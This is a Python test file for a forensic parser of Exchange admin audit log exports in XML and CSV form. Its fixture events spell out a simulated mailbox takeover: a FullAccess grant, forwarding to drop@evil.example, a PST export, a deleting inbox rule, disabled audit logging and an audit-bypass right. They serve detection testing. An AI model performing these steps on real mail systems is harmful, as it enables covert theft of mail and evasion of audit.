"""Exchange administrator audit log exports: the XML report and Search-AdminAuditLog CSV.

XML follows the documented structure and its example entry ("Administrator audit log
structure", Exchange 2013 Help, MicrosoftDocs/OfficeDocs-Exchange
``administrator-audit-log-structure-exchange-2013-help.md``: ``<SearchResults><Event Caller
Cmdlet ObjectModified RunDate="2012-10-18T15:48:15-07:00" Succeeded Error="None"
OriginatingServer>`` with ``<CmdletParameters><Parameter Name Value/>`` and
``<ModifiedProperties><Property Name OldValue NewValue/>``). No real public XML report beyond
that example was found; the other entries are built the same way. The CSV uses the
AdminAuditLogEvent property names in the order Windows PowerShell's Export-Csv writes them,
with its ``#TYPE Deserialized.…AdminAuditLogEvent`` line and en-US culture dates.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from forensics.parsers import registry
from forensics.parsers.m365.admin_audit import AdminAuditParser, parameters_of_text
from forensics.parsers.base import LoadOptions
from forensics.parsers.m365.mailbox_audit import MailboxAuditParser
from helpers.run_parser import run_parser

DOC_EXAMPLE = """<?xml version="1.0" encoding="utf-8"?>
<SearchResults>

  <Event Caller="corp.e15a.contoso.com/Users/Administrator" Cmdlet="Set-Mailbox" ObjectModified="corp.e15a.contoso.com/Users/david" RunDate="2012-10-18T15:48:15-07:00" Succeeded="true" Error="None" OriginatingServer="WIN8MBX (15.00.0516.032)">
    <CmdletParameters>
      <Parameter Name="Identity" Value="david" />
      <Parameter Name="ProhibitSendReceiveQuota" Value="10 GB (10,737,418,240 bytes)" />
    </CmdletParameters>
    <ModifiedProperties>
      <Property Name="ProhibitSendReceiveQuota" OldValue="35 GB (37,580,963,840 bytes)" NewValue="10 GB (10,737,418,240 bytes)" />
    </ModifiedProperties>
  </Event>
{more}</SearchResults>
"""


def event(cmdlet: str, params: dict[str, str], obj: str, when: str, succeeded: str = "true", error: str = "None") -> str:
    inner = "".join(f'      <Parameter Name="{k}" Value="{v}" />\n' for k, v in params.items())
    return (f'  <Event Caller="contoso.com/Users/Administrator" Cmdlet="{cmdlet}" ObjectModified="{obj}" RunDate="{when}" '
            f'Succeeded="{succeeded}" Error="{error}" OriginatingServer="EX01 (15.01.2507.006)">\n'
            f"    <CmdletParameters>\n{inner}    </CmdletParameters>\n    <ModifiedProperties />\n  </Event>\n")


MORE = (
    event("Add-MailboxPermission", {"Identity": "ceo", "User": "CONTOSO\\eve", "AccessRights": "FullAccess"},
          "contoso.com/Users/ceo", "2024-03-05T10:00:00+01:00")
    + event("Set-Mailbox", {"Identity": "ceo", "ForwardingSmtpAddress": "smtp:drop@evil.example"},
            "contoso.com/Users/ceo", "2024-03-05T10:01:00+01:00")
    + event("New-InboxRule", {"Mailbox": "ceo", "Name": "x", "DeleteMessage": "True"}, "contoso.com/Users/ceo\\x",
            "2024-03-05T10:02:00+01:00")
    + event("New-MailboxExportRequest", {"Mailbox": "ceo", "FilePath": "\\\\srv\\pst\\ceo.pst"}, "contoso.com/Users/ceo",
            "2024-03-05T10:03:00+01:00")
    + event("Set-AdminAuditLogConfig", {"AdminAuditLogEnabled": "False"}, "Admin Audit Log Settings",
            "2024-03-05T10:04:00+01:00")
    + event("Add-MailboxPermission", {"Identity": "cfo", "User": "eve", "AccessRights": "FullAccess"},
            "contoso.com/Users/cfo", "2024-03-05T10:05:00+01:00", "false", "The operation couldn't be performed because object 'cfo' couldn't be found.")
)


def parse(tmp_path: Path, text: str, name: str, encoding: str = "utf-8", **options: object):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    frame, report = run_parser(AdminAuditParser, path, LoadOptions(**options))
    assert report.balanced, report
    return frame, report, path


def test_xml_report_maps_the_cmdlet_vocabulary(tmp_path: Path) -> None:
    frame, report, path = parse(tmp_path, DOC_EXAMPLE.format(more=MORE), "report.xml")
    assert registry.detect(path.read_bytes(), path) is AdminAuditParser
    assert report.accepted == 7 and report.bad == 0
    rows = frame.set_index("record_id")
    first = rows.loc[1]
    assert first["operation"] == "AdminCommand" and first["mailbox"] == "david"
    assert first["actor"] == "corp.e15a.contoso.com/Users/Administrator" and first["server"] == "WIN8MBX"
    assert first["time"] == pd.Timestamp("2012-10-18T22:48:15Z")  # the offset written: exact UTC
    assert "modified=ProhibitSendReceiveQuota: 35 GB" in first["details"]
    assert list(rows["operation"]) == ["AdminCommand", "PermissionChange", "ForwardingChange", "InboxRuleChange",
                                       "MailboxExport", "AuditConfigChange", "PermissionChange"]
    assert rows.loc[2, "mailbox"] == "ceo" and "target_user=CONTOSO\\eve" in rows.loc[2, "details"]
    assert pd.isna(rows.loc[6, "mailbox"])  # an organisation object, never a "mailbox"
    assert "object=" in rows.loc[6, "details"]
    assert rows.loc[7, "outcome"] == "Failure" and "couldn't be found" in rows.loc[7, "details"]
    assert "<Parameter Name=\"ForwardingSmtpAddress\"" in AdminAuditParser.raw_record(path, 3, 3)


def csv_export(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    out.write("#TYPE Deserialized.Microsoft.Exchange.Management.SystemConfigurationTasks.AdminAuditLogEvent\r\n")
    names = ["RunspaceId", "ObjectModified", "ModifiedObjectResolvedName", "CmdletName", "CmdletParameters",
             "ModifiedProperties", "Caller", "ExternalAccess", "Succeeded", "Error", "RunDate", "OriginatingServer",
             "Identity", "IsValid", "ObjectState"]
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerow(names)
    for row in rows:
        writer.writerow([row.get(n, "") for n in names])
    return out.getvalue()


def row(cmdlet: str, params: str, obj: str, when: str = "3/5/2024 10:00:00 AM", ok: str = "True") -> dict[str, str]:
    return {"RunspaceId": "8a1c…", "ObjectModified": obj, "CmdletName": cmdlet, "CmdletParameters": params,
            "ModifiedProperties": "System.Collections.ArrayList", "Caller": "contoso.com/Users/Administrator",
            "ExternalAccess": "False", "Succeeded": ok, "Error": "None", "RunDate": when,
            "OriginatingServer": "EX01 (15.01.2507.006)", "Identity": "AAMkAD…", "IsValid": "True", "ObjectState": "New"}


def test_csv_export_with_parameter_text_in_several_shapes(tmp_path: Path) -> None:
    text = csv_export([
        row("Add-MailboxPermission", "Identity=ceo; User=eve; AccessRights=FullAccess", "contoso.com/Users/ceo"),
        row("Set-Mailbox", "-Identity 'ceo' -DeliverToMailboxAndForward $true -ForwardingSmtpAddress 'smtp:a@b.example'",
            "contoso.com/Users/ceo"),
        row("Add-ADPermission", "{Identity=Mailbox Database 01, User=CONTOSO\\svc, ExtendedRights=ms-Exch-Store-Bypass-Access-Auditing}",
            "Mailbox Database 01"),
        row("Set-Mailbox", "System.Collections.ArrayList", "contoso.com/Users/cfo", "3/5/2024 1:00:00 PM"),
        row("Set-Mailbox", "{Identity, AuditEnabled}", "contoso.com/Users/cfo"),
    ])
    frame, report, path = parse(tmp_path, text, "admin.csv", source_tz="+01:00")
    assert registry.detect(path.read_bytes(), path) is AdminAuditParser
    assert report.accepted == 5
    assert list(frame["operation"]) == ["PermissionChange", "ForwardingChange", "AuditConfigChange", "AdminCommand",
                                        "AuditConfigChange"]
    assert list(frame["mailbox"].astype("string").fillna("")) == ["ceo", "ceo", "", "contoso.com/Users/cfo", "contoso.com/Users/cfo"]
    assert "AUDIT BYPASS GRANTED" in frame.loc[2, "details"]
    # a bare Export-Csv lost the values: said on the file, the row classified by the cmdlet and its target from ObjectModified
    assert any("System.Collections.ArrayList" in str(w) and "1 record" in str(w) for w in report.warnings)
    assert frame.loc[3, "time"] == pd.Timestamp("2024-03-05T12:00:00Z")  # 1 PM at +01:00
    assert set(frame["time_basis"].astype(str)) != {"utc (offset in source)"}
    assert 'Set-Mailbox' in AdminAuditParser.raw_record(path, 2, 2)


def test_csv_local_times_without_a_zone_are_said_to_be_unknown(tmp_path: Path) -> None:
    _, report, _ = parse(tmp_path, csv_export([row("Get-Mailbox", "", "")]), "admin.csv")
    assert any(note.startswith("LOCAL TIMES, ZONE UNKNOWN") for note in report.notes)


def test_damaged_records_are_counted(tmp_path: Path) -> None:
    xml = DOC_EXAMPLE.format(more=event("Get-Mailbox", {}, "", "not a date") + '  <Event Caller="x" RunDate="2024-01-01T00:00:00Z" />\n'
                             + "  <Evxnt Cmdlet='lost'/>\n")
    frame, report, _ = parse(tmp_path, xml, "report.xml")
    assert report.accepted == 1 and report.bad == 2
    messages = " | ".join(str(w) for w in report.warnings)
    assert "record 2: RunDate missing or unreadable" in messages and "record 3: <Event> without a Cmdlet" in messages
    assert "damaged <Event>" in messages
    text = csv_export([row("Get-Mailbox", "", "")]) + '"only","three","fields"\r\n'
    _, report, _ = parse(tmp_path, text, "admin.csv", source_tz="UTC")
    assert report.accepted == 1 and report.bad == 1


@pytest.mark.parametrize("text, expected", [
    ("Identity=ceo; User=eve", {"Identity": "ceo", "User": "eve"}),
    ("Identity: ceo\nUser: eve", {"Identity": "ceo", "User": "eve"}),
    ("{Identity=ceo, AccessRights=FullAccess}", {"Identity": "ceo", "AccessRights": "FullAccess"}),
    ("-Identity 'pat o''neil' -Confirm:$false", {"Identity": "pat o'neil", "Confirm": False}),
    ("{Identity, User}", {"Identity": "", "User": ""}),
])
def test_parameter_cells(text: str, expected: dict) -> None:
    assert parameters_of_text(text) == (expected, 0)
    assert parameters_of_text("Deserialized.Microsoft.Exchange.Data.MultiValuedProperty`1[[System.String]]")[1] == 1


def test_mailbox_audit_look_alikes_keep_their_parser(tmp_path: Path) -> None:
    mailbox_xml = tmp_path / "SearchResult.xml"
    mailbox_xml.write_text('<?xml version="1.0" encoding="utf-8"?>\n<SearchResults>\n  <Event MailboxGuid="a" Owner="b" '
                           'LastAccessed="2024-03-05T10:00:00Z" Operation="FolderBind" LogonType="Delegate" />\n'
                           "</SearchResults>\n", encoding="utf-8")
    assert AdminAuditParser.sniff(mailbox_xml.read_bytes(), mailbox_xml) == 0
    assert registry.detect(mailbox_xml.read_bytes(), mailbox_xml) is MailboxAuditParser
    admin_xml = tmp_path / "admin.xml"
    admin_xml.write_text(DOC_EXAMPLE.format(more=""), encoding="utf-8")
    assert MailboxAuditParser.sniff(admin_xml.read_bytes(), admin_xml) == 0


def test_csv_look_alikes_keep_their_parser(tmp_path: Path) -> None:
    # Search-MailboxAuditLog | Export-Csv (reference/evidence-formats.md §4) and a UAL export
    mailbox_csv = tmp_path / "mailbox.csv"
    mailbox_csv.write_text('"Operation","OperationResult","LogonType","MailboxOwnerUPN","LogonUserDisplayName","LastAccessed"\r\n'
                           '"FolderBind","Succeeded","Delegate","ceo@contoso.com","Eve","3/5/2024 10:00:00 AM"\r\n', encoding="utf-8")
    assert AdminAuditParser.sniff(mailbox_csv.read_bytes(), mailbox_csv) == 0
    assert registry.detect(mailbox_csv.read_bytes(), mailbox_csv) is MailboxAuditParser
    ual_csv = tmp_path / "ual.csv"
    ual_csv.write_text('CreationDate,UserIds,Operations,AuditData\r\n2024-03-05T10:00:00,a@b,Set-Mailbox,"{}"\r\n', encoding="utf-8")
    assert AdminAuditParser.sniff(ual_csv.read_bytes(), ual_csv) == 0
    admin_csv = tmp_path / "admin.csv"
    admin_csv.write_text(csv_export([row("Get-Mailbox", "", "")]).split("\r\n", 1)[1], encoding="utf-8")  # -NoTypeInformation
    assert registry.detect(admin_csv.read_bytes(), admin_csv) is AdminAuditParser
